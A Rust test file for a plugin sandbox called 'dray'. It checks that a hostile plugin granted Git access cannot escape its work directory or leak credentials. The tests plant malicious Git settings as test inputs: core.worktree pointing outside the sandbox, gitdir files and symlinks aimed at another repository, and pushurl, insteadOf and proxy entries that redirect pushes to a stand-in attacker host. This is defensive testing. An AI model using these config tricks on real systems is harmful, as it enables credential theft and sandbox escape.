//! A plugin granted `git` (tests/fixtures/git-attacker) against the host's Git work: it plants
//! Git configuration, gitfiles and links in its work tree and asks the host to commit, push and
//! inspect. The host keeps each clone's repository outside the work directory, so none of it
//! may reach a host file, another repository or a host the credential was not looked up for.
//! Remotes are real: a smart-HTTP server (`git http-backend`) with basic auth.

use std::net::TcpListener;
use std::path::PathBuf;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use dray::host::git::{GitAccess, GitCredential, GitCredentials};
use dray::runtime::{
    Capability, FailureKind, Grants, Limits, Plugin, Runtime, StepContext, StepReport,
};
use dray_tests::fixture;
use dray_tests::git::{GitHttp, Repos, git};
use serde_json::{Value, json};

fn context() -> StepContext {
    dray_tests::step_context()
}

/// The credential of the one remote the tests push to, looked up by URL.
struct OnlyOrigin {
    url: String,
}

impl GitCredentials for OnlyOrigin {
    fn lookup(&self, repo_url: &str) -> Option<GitCredential> {
        (repo_url == self.url).then(|| GitCredential::Password {
            username: "dray".into(),
            password: "s3cret-password".into(),
            from: "Secret p/gitops".into(),
        })
    }
}

/// A listener that only counts who connects: a host the guest would like to send things to.
fn attacker() -> (String, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let address = listener.local_addr().expect("address");
    let hits = Arc::new(AtomicUsize::new(0));
    let counter = hits.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            counter.fetch_add(1, Ordering::SeqCst);
            drop(stream);
        }
    });
    (format!("http://{address}/stolen.git"), hits)
}

struct World {
    _root: tempfile::TempDir,
    workdir: PathBuf,
    /// A file beside the work directory that the guest must never read.
    secret: PathBuf,
    /// A repository on the host, outside the work directory, that must never change.
    victim: PathBuf,
    victim_head: String,
    repos: Repos,
    _server: GitHttp,
    origin: String,
    plugin: Plugin,
    limits: Limits,
}

async fn world() -> World {
    let root = tempfile::tempdir().expect("tempdir");
    let workdir = root.path().join("work");
    std::fs::create_dir(&workdir).expect("workdir");
    let secret = root.path().join("token");
    std::fs::write(&secret, "the daemon's API token").expect("secret");
    let victim = root.path().join("victim");
    std::fs::create_dir(&victim).expect("victim");
    git(&victim, &["init", "-q", "-b", "main"]);
    std::fs::write(victim.join("README"), "someone else's repository").expect("write");
    git(&victim, &["add", "-A"]);
    git(
        &victim,
        &[
            "-c",
            "user.name=v",
            "-c",
            "user.email=v@example.com",
            "commit",
            "-qm",
            "victim",
        ],
    );
    let victim_head = git(&victim, &["rev-parse", "HEAD"]);

    let repos = Repos::new();
    repos.create("gitops.git", &[("app.yaml", "image: app:1.0.0\n")]);
    let server = GitHttp::start(&repos, "dray:s3cret-password");
    let origin = format!("{}/gitops.git", server.url);
    let runtime = Runtime::new(None).expect("runtime");
    let plugin = runtime
        .load(
            "git-attacker",
            fixture("git_attacker"),
            &Grants::of(&[Capability::Git]),
        )
        .await
        .expect("the fixture loads with a git grant");
    let limits = Limits {
        timeout: Duration::from_secs(30),
        git: GitAccess {
            credentials: Some(Arc::new(OnlyOrigin {
                url: origin.clone(),
            })),
            ..GitAccess::default()
        },
        ..Limits::default()
    };
    World {
        _root: root,
        workdir,
        secret,
        victim,
        victim_head,
        repos,
        _server: server,
        origin,
        plugin,
        limits,
    }
}

impl World {
    fn server_url(&self) -> &str {
        &self._server.url
    }

    async fn attack(&self, config: Value) -> StepReport {
        self.plugin
            .run("attack", &context(), &config, &self.workdir, &self.limits)
            .await
    }

    async fn clone(&self) {
        let report = self
            .attack(json!({"clone": self.origin, "then": "list"}))
            .await;
        let done = report
            .outcome
            .unwrap_or_else(|f| panic!("the clone works: {f:?}\n{:#?}", report.log));
        assert_eq!(
            done.outputs["entries"],
            json!(["app.yaml"]),
            "the work tree holds the files and no .git"
        );
    }

    /// The files on origin's `main`.
    fn origin_files(&self) -> Vec<String> {
        let bare = self.repos.root.join("gitops.git");
        let listed = git(&bare, &["ls-tree", "-r", "--name-only", "main"]);
        listed.lines().map(str::to_string).collect()
    }

    fn victim_untouched(&self) {
        assert_eq!(
            git(&self.victim, &["rev-parse", "HEAD"]),
            self.victim_head,
            "no commit was written into the repository outside the work directory"
        );
        assert_eq!(git(&self.victim, &["status", "--porcelain"]), "");
    }

    /// After an attack, a normal commit and push still work, carry only the work tree's
    /// files, and reach origin with the credential.
    async fn still_works(&self) {
        let report = self
            .attack(json!({"remove": ["repo/.git", "repo/sub"], "files": {"repo/new.txt": "fine"}, "then": "commit"}))
            .await;
        report
            .outcome
            .unwrap_or_else(|f| panic!("a normal commit works: {f:?}\n{:#?}", report.log));
        let report = self.attack(json!({"then": "push"})).await;
        report
            .outcome
            .unwrap_or_else(|f| panic!("a normal push works: {f:?}\n{:#?}", report.log));
        assert_eq!(self.origin_files(), ["app.yaml", "new.txt"]);
    }
}

fn refused(report: &StepReport) -> String {
    match &report.outcome {
        Err(f) => {
            assert_eq!(f.kind, FailureKind::Terminal, "{}", f.message);
            f.message.clone()
        }
        Ok(done) => panic!("the attack must fail, it returned {done:?}"),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_planted_core_worktree_cannot_make_the_host_commit_files_from_outside() {
    let w = world().await;
    w.clone().await;
    for worktree in [
        "../../..",
        "/",
        w.secret.parent().expect("parent").to_str().expect("utf-8"),
    ] {
        let config = format!("[core]\n\tworktree = {worktree}\n\tbare = false\n");
        let report = w
            .attack(json!({"files": {"repo/.git/config": config, "repo/.git/HEAD": "ref: refs/heads/main\n"}, "then": "commit"}))
            .await;
        let message = refused(&report);
        assert!(message.contains(".git entry"), "{message}");
    }
    w.still_works().await;
    let files = w.origin_files();
    assert!(
        !files.iter().any(|f| f.contains("token")),
        "no file from outside the work tree was committed: {files:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn gitfiles_and_links_named_dot_git_never_lead_the_host_elsewhere() {
    let w = world().await;
    w.clone().await;
    let victim_git = w.victim.join(".git");
    let attacks = [
        json!({"files": {"repo/.git": format!("gitdir: {}\n", victim_git.display())}}),
        json!({"files": {"repo/.git": "gitdir: ../../victim/.git\n"}}),
        json!({"links": {"repo/.git": "../../victim/.git"}}),
        json!({"files": {"repo/sub/.git": "gitdir: ../../../victim/.git\n", "repo/sub/x": "x"}}),
        json!({"files": {"repo/sub/.GIT/config": "[core]\n\tworktree = /\n"}}),
    ];
    for attack in attacks {
        for then in ["commit", "push", "inspect"] {
            let mut config = attack.clone();
            config["then"] = json!(then);
            let report = w.attack(config.clone()).await;
            if then == "inspect" {
                // Reads only the host's repository: the planted entry changes nothing.
                let done = report.outcome.expect("inspect reads the host's repository");
                assert_eq!(done.outputs["origin"], json!(w.origin), "{config}");
            } else {
                let message = refused(&report);
                assert!(message.contains(".git entry"), "{config}: {message}");
            }
            w.victim_untouched();
            // Clean up for the next attack (the guest may remove what it planted).
            let report = w.attack(json!({"remove": ["repo/.git", "repo/sub"]})).await;
            assert!(report.outcome.is_ok());
        }
    }
    w.still_works().await;
    w.victim_untouched();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn credentials_go_only_to_the_url_they_were_looked_up_for() {
    let w = world().await;
    let (stolen, hits) = attacker();
    w.clone().await;
    // Kargo-style config tricks: a push URL, a rewrite of origin's URL, a proxy.
    let config = format!(
        "[remote \"origin\"]\n\turl = {origin}\n\tpushurl = {stolen}\n[url \"{stolen}\"]\n\tinsteadOf = {origin}\n[http]\n\tproxy = {stolen}\n",
        origin = w.origin
    );
    let report = w
        .attack(json!({"files": {"repo/.git/config": config}, "then": "push"}))
        .await;
    refused(&report);
    // The host's own copy of the repository is out of the guest's reach.
    let report = w
        .attack(
            json!({"files": {"../work.git-repos/config": "[remote \"origin\"]\n\tpushurl = x\n"}}),
        )
        .await;
    let message = refused(&report);
    assert!(!message.contains("s3cret"), "{message}");
    w.still_works().await;
    assert_eq!(
        hits.load(Ordering::SeqCst),
        0,
        "nothing, credentials least of all, went to the attacker's host"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn inspect_reports_head_branch_and_origin_without_a_dot_git() {
    let w = world().await;
    w.clone().await;
    let report = w.attack(json!({"then": "inspect"})).await;
    let done = report
        .outcome
        .unwrap_or_else(|f| panic!("inspect works: {f:?}\n{:#?}", report.log));
    let head = git(&w.repos.root.join("gitops.git"), &["rev-parse", "main"]);
    assert_eq!(done.outputs["head"], json!(head));
    assert_eq!(done.outputs["branch"], json!("main"));
    assert_eq!(done.outputs["origin"], json!(w.origin));
    let report = w
        .attack(json!({"path": "elsewhere", "then": "inspect"}))
        .await;
    let message = refused(&report);
    assert!(message.contains("not a Git work tree"), "{message}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_clone_through_the_shared_cache_stops_at_the_work_dir_quota() {
    let mut w = world().await;
    // 3 MiB of characters that hardly compress: the pack itself passes the quota, and it
    // would land in the daemon's cache, outside any work directory.
    let mut x: u32 = 2_463_534_242;
    let noise: String = (0..3 << 20)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 17;
            x ^= x << 5;
            char::from(b'!' + (x % 94) as u8)
        })
        .collect();
    w.repos
        .create("noise.git", &[("noise.txt", noise.as_str())]);
    w.limits.disk = dray::runtime::disk::Quota {
        bytes: 1 << 20,
        files: 1000,
    };
    let cache = w.workdir.with_file_name("git-cache");
    w.limits.git.cache = Some(dray::host::git::GitCache {
        dir: cache.clone(),
        max_fetch_bytes: w.limits.disk.bytes,
    });
    let url = format!("{}/noise.git", w.server_url());
    w.limits.git.credentials = Some(Arc::new(OnlyOrigin { url: url.clone() }));
    let report = w.attack(json!({"clone": url, "path": "noise"})).await;
    let message = refused(&report);
    assert!(
        message.contains("passed 1048576 bytes (the work directory's quota)"),
        "{message}"
    );
    assert!(
        !w.workdir.join("noise").exists(),
        "nothing half-cloned is left"
    );
    // The same clone under a quota it fits in goes through the cache.
    w.limits.disk.bytes = 64 << 20;
    if let Some(cache) = w.limits.git.cache.as_mut() {
        cache.max_fetch_bytes = 64 << 20;
    }
    let report = w.attack(json!({"clone": url, "path": "noise"})).await;
    report
        .outcome
        .unwrap_or_else(|f| panic!("the clone fits: {f:?}\n{:#?}", report.log));
    assert!(cache.read_dir().is_ok_and(|mut d| d.next().is_some()));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_clone_larger_than_the_work_dir_quota_fails_the_step() {
    let mut w = world().await;
    // 3 MiB that compresses to almost nothing on the wire: only the checkout is large.
    let big = "x".repeat(3 << 20);
    w.repos.create("big.git", &[("big.txt", big.as_str())]);
    w.limits.disk = dray::runtime::disk::Quota {
        bytes: 1 << 20,
        files: 1000,
    };
    let url = format!("{}/big.git", w.server_url());
    w.limits.git.credentials = Some(Arc::new(OnlyOrigin { url: url.clone() }));
    let report = w.attack(json!({"clone": url, "path": "big"})).await;
    // The call may end before the watch looks (the host did the writing); the check the
    // engine makes after every call catches it (tests/tests/hostile_api.rs runs the whole
    // promotion).
    let over = match &report.outcome {
        Err(f) => {
            assert_eq!(f.kind, FailureKind::DiskQuota, "{}", f.message);
            f.message.clone()
        }
        Ok(_) => dray::runtime::disk::check(&w.workdir, w.limits.disk)
            .await
            .expect("the work dir is past its quota"),
    };
    assert!(over.contains("past its quota of 1 MiB"), "{over}");
}
